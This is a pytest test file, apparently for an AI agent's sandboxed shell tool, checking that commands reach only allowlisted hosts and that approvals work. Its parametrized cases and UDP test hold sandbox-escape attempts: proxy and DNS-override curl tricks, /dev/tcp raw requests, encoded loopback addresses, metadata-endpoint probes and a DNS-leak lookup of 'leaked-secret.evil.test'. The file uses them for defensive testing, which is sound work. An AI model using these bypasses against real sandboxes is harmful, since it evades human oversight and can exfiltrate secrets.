"""Ways out of the sandbox of a command: the listed hosts over HTTP(S), and nothing else."""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import os
import socket
import zipfile
from collections.abc import AsyncIterator, Sequence
from contextlib import suppress
from pathlib import Path

import pytest

from nanobot.errors import ToolError
from nanobot.messages import Address, Role
from nanobot.plugins.common.addresses import Addresses
from nanobot.plugins.common.approvals import RuleView
from nanobot.plugins.common.walls import NetworkAccess
from nanobot.plugins.shell.allowed_hosts import AllowedHosts
from nanobot.plugins.shell.exec import ExecOptions, exec_tool
from nanobot.plugins.shell.sandbox.bubblewrap import Bubblewrap, find_bwrap
from nanobot.plugins.shell.sandbox.sandbox import Sandbox
from nanobot.tools.base import CallContext
from nanobot.tools.registry import ToolRegistry
from nanobot.tools.verdict import Verdict
from tests.doubles.web_server import PRIVATE, PUBLIC, Page, WebServer

CANARY = "/canary"
SESSION = "cli:direct"


def open_files() -> int:
    return sum(1 for _ in Path("/proc/self/fd").iterdir())


class Shell:
    """exec whose network is a list of hosts; `rules` are what was allowed for good."""

    def __init__(self, home: Path, site: WebServer, mode: str = "hosts") -> None:
        self.rules: list[RuleView] = []
        self.registry = ToolRegistry()
        self.workspace = home / "workspace"
        self.workspace.mkdir(exist_ok=True)
        addresses = Addresses([PUBLIC, "shop.test"], site.look_up)
        walls = Bubblewrap(find_bwrap(), hidden=[home], addresses=addresses)
        options = ExecOptions(
            network=NetworkAccess(mode=mode, hosts=(f"shop.test:{site.port}",))  # type: ignore[arg-type]
        )

        async def rules() -> Sequence[RuleView]:
            return self.rules

        sandbox = Sandbox(walls, home=home / "sandbox-home")
        self.registry.register(
            exec_tool(sandbox, self.workspace, options, allowed=AllowedHosts(rules))
        )

    async def __call__(self, command: str, *, approved: bool = False, **more: object) -> str:
        arguments = json.dumps({"command": command, "network": True, **more})
        return await self.registry.execute("exec", arguments, context(approved=approved))

    async def judged(
        self, command: str, *, tainted: bool = False, **more: object
    ) -> tuple[str, str]:
        """The verdict on a call, and why."""
        arguments = json.dumps({"command": command, **more})
        decision = await self.registry.judge("exec", arguments, context(tainted=tainted))
        return decision.verdict, decision.why


def context(*, approved: bool = False, tainted: bool = False) -> CallContext:
    return CallContext(
        run_id="r1",
        session_key=SESSION,
        address=Address("cli", "direct"),
        sender_id="1",
        role=Role.OWNER,
        key="r1:1:0",
        approved=approved,
        tainted=tainted,
    )


@pytest.fixture
async def shell(tmp_path: Path, site: WebServer) -> AsyncIterator[Shell]:
    site.page(CANARY, b"caught")
    site.page("/page", b"a page")
    site.names |= {
        "shop.test": [[PUBLIC]],
        "other.test": [[PUBLIC]],
        PUBLIC: [[PUBLIC]],
        PRIVATE: [[PRIVATE]],
    }
    yield Shell(tmp_path, site)
    assert not any(CANARY in path for _, path in site.asked), site.asked


async def test_curl_reads_a_page_of_a_listed_host(shell: Shell, site: WebServer) -> None:
    result = await shell(f"curl -sS {site.url('/page', 'shop.test')}")
    assert result == "a page\n[exit code 0]"
    assert site.asked == [(f"shop.test:{site.port}", "/page")]


async def test_pip_downloads_a_package_from_a_listed_host(shell: Shell, site: WebServer) -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as wheel:
        wheel.writestr(
            "thing-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n"
        )
        wheel.writestr("thing-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        wheel.writestr("thing-1.0.dist-info/RECORD", "")
    name, digest = "thing-1.0-py3-none-any.whl", hashlib.sha256(content.getvalue()).hexdigest()
    site.pages[f"/files/{name}"] = Page(content.getvalue(), "application/octet-stream")
    site.page("/simple/thing/", f'<a href="/files/{name}#sha256={digest}">{name}</a>'.encode())
    index = site.url("/simple", "shop.test")
    result = await shell(
        f"python3 -m pip download -q --disable-pip-version-check --index-url {index} "
        "--trusted-host shop.test thing && ls *.whl"
    )
    assert name in result, result


async def test_a_host_that_is_not_listed_is_refused_and_the_way_to_ask_is_told(
    shell: Shell, site: WebServer
) -> None:
    result = await shell(f"u=http://oth; curl -sS ${{u}}er.test:{site.port}/canary")
    assert "is not among the hosts that may be reached" in result
    assert f'hosts=["other.test:{site.port}"]' in result


async def test_a_redirect_leads_to_no_other_host(shell: Shell, site: WebServer) -> None:
    site.redirect("/away", site.url(CANARY, "other.test"))
    result = await shell(f"curl -sSL {site.url('/away', 'shop.test')}")
    assert f'hosts=["other.test:{site.port}"]' in result


@pytest.mark.parametrize(
    "command",
    [
        "curl -sS --noproxy '*' {url}",
        "env -i /usr/bin/curl -sS {url}",
        "curl -sS --connect-to shop.test:{port}:" + PRIVATE + ":{port} {shop}",
        "curl -sS --resolve shop.test:{port}:" + PUBLIC + " --noproxy '*' {shop}",
        "curl -sS -x '' {url}",
        "curl -sS -x http://" + PUBLIC + ":{port} {shop}",
        "curl -sS -x socks5h://127.0.0.1:3128 {shop}",
        "curl -sSp -x http://127.0.0.1:3128 {url}",
        "curl -sS -H 'Host: other.test' -x http://127.0.0.1:3128 http://other.test:{port}/canary",
        "exec 3<>/dev/tcp/127.0.0.1/{port}; printf 'GET /canary HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
        "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {port})); "
        "s.sendall(b'GET /canary HTTP/1.0\\r\\n\\r\\n'); print(s.recv(999))\"",
        "curl -sS http://[::ffff:127.0.0.1]:{port}/canary",
        "curl -sS http://2130706433:{port}/canary",
    ],
)
async def test_no_other_way_leads_to_the_canary(
    shell: Shell, site: WebServer, command: str
) -> None:
    urls = {"url": site.url(CANARY), "shop": site.url(CANARY, "shop.test"), "port": site.port}
    filled = (
        command.format(**urls).replace(f"{CANARY} ", "/page ")
        if "socks" in command
        else command.format(**urls)
    )
    result = await shell(filled)
    assert "caught" not in result, result


async def test_udp_and_names_lead_nowhere(shell: Shell) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as heard:
        heard.bind((PUBLIC, 0))
        heard.settimeout(0)
        port = heard.getsockname()[1]
        result = await shell(
            "cat > /tmp/try.py <<'END'\n"
            "import socket\n"
            "for host in ('127.0.0.1', '8.8.8.8', '169.254.169.254'):\n"
            "    try:\n"
            "        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:\n"
            f"            out.sendto(b'x', (host, {port}))\n"
            "        print(host, 'sent')\n"
            "    except OSError as error:\n"
            "        print(host, error.strerror)\n"
            "try:\n"
            "    socket.getaddrinfo('leaked-secret.evil.test', 80)\n"
            "    print('resolved')\n"
            "except OSError as error:\n"
            "    print('no name')\n"
            "END\n"
            "python3 /tmp/try.py"
        )
        assert "8.8.8.8 Network is unreachable" in result
        assert "169.254.169.254 Network is unreachable" in result
        assert "no name" in result
        with pytest.raises(BlockingIOError):
            heard.recv(10)


@pytest.mark.parametrize("mode", ["none", "hosts", "all"])
async def test_abstract_sockets_of_the_machine_are_not_reached(
    tmp_path: Path, site: WebServer, mode: str
) -> None:
    name = f"nanobot-test-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(f"\0{name}")
        listening.listen()
        listening.settimeout(0)
        code = f"import socket; socket.socket(socket.AF_UNIX).connect(chr(0) + '{name}')"
        result = await Shell(tmp_path, site, mode)(f'python3 -c "{code}"')
        assert "Connection refused" in result or "Operation not permitted" in result
        with suppress(BlockingIOError):
            listening.accept()
            pytest.fail("the socket was reached")


async def test_a_service_of_the_command_itself_is_reached(shell: Shell) -> None:
    result = await shell(
        "echo mine > index.html; python3 -m http.server 8000 >/dev/null 2>&1 & "
        "for i in $(seq 50); do curl -s http://localhost:8000/index.html && break; sleep 0.1; done"
    )
    assert result == "mine\n[exit code 0]"


@pytest.mark.process
async def test_two_commands_have_networks_of_their_own(shell: Shell) -> None:
    serve = "echo mine > index.html; timeout 2 python3 -m http.server 8000 >/dev/null 2>&1"
    probe = "sleep 1; curl -sS --max-time 1 http://localhost:8000/index.html"
    _, result = await asyncio.gather(shell(serve), shell(probe))
    assert "mine" not in result


@pytest.mark.process
async def test_a_command_that_ends_takes_its_way_out_with_it(shell: Shell, site: WebServer) -> None:
    before = open_files()
    for _ in range(5):
        await shell(f"curl -sS {site.url('/page', 'shop.test')}")
    site.pages["/slow"] = Page(pieces=(b"x",), hang=True)
    with suppress(ToolError):
        await shell(f"curl -sS {site.url('/slow', 'shop.test')}", timeout=1)
    async with asyncio.timeout(20):
        while open_files() > before:  # noqa: ASYNC110 - the kernel tells nobody
            await asyncio.sleep(0.02)


async def test_hosts_that_a_call_names_are_asked_about_and_listed_ones_are_not(
    shell: Shell, site: WebServer
) -> None:
    other, shop = site.url(CANARY, "other.test"), site.url("/page", "shop.test")
    assert await shell.judged(f"curl {shop}") == (Verdict.ALLOW, "owners may do everything")
    verdict, why = await shell.judged(f"curl {other}")
    assert verdict is Verdict.ASK
    assert why.startswith(f"it connects to other.test:{site.port}, which is not among the hosts")
    verdict, why = await shell.judged("./fetch.sh", hosts=["api.example.org"])
    assert verdict is Verdict.ASK
    assert "api.example.org" in why
    assert (await shell.judged(f"echo {other}", network=False))[0] is Verdict.ALLOW
    assert (await shell.judged("git clone https://code.example/x", tainted=True))[0] is Verdict.ASK


async def test_a_host_that_a_person_agreed_to_is_reached_by_that_very_call(
    shell: Shell, site: WebServer
) -> None:
    site.page("/other", b"another page")
    command = f"curl -sS {site.url('/other', 'other.test')}"
    assert "another page" not in await shell(command)
    assert "another page" in await shell(command, approved=True)
    named = await shell("./no; curl -sS $U", approved=True, hosts=[f"other.test:{site.port}"])
    assert "other.test" not in named
    assert "another page" not in await shell(command)


async def test_allowing_a_command_for_good_allows_its_hosts_in_that_conversation(
    shell: Shell, site: WebServer
) -> None:
    site.page("/other", b"another page")
    rule = RuleView(
        id=1,
        session_key=SESSION,
        tool="exec",
        subject=json.dumps({"command": f"curl {site.url('/', 'other.test')}"}),
        tainted=False,
        by="the owner",
        created_at=0.0,
    )
    command = f"curl -sS {site.url('/other', 'other.test')}"
    for wrong in ({"session_key": "telegram:1"}, {"tainted": True}, {"tool": "spawn"}):
        shell.rules = [RuleView(**{**_fields(rule), **wrong})]  # type: ignore[arg-type]
        assert (await shell.judged(command))[0] is Verdict.ASK
    shell.rules = [rule]
    assert (await shell.judged(command))[0] is Verdict.ALLOW
    assert "another page" in await shell(command)


def _fields(rule: RuleView) -> dict[str, object]:
    return {name: getattr(rule, name) for name in rule.__struct_fields__}


async def test_a_network_that_cannot_be_made_is_an_error_and_leaves_nothing(
    tmp_path: Path, site: WebServer
) -> None:
    bwrap = tmp_path / "bwrap"
    bwrap.write_text("#!/bin/sh\necho no namespaces >&2; exit 1\n")
    bwrap.chmod(0o755)
    walls = Bubblewrap(str(bwrap))
    assert "no namespaces" in str(await walls.probe(NetworkAccess(mode="hosts")))
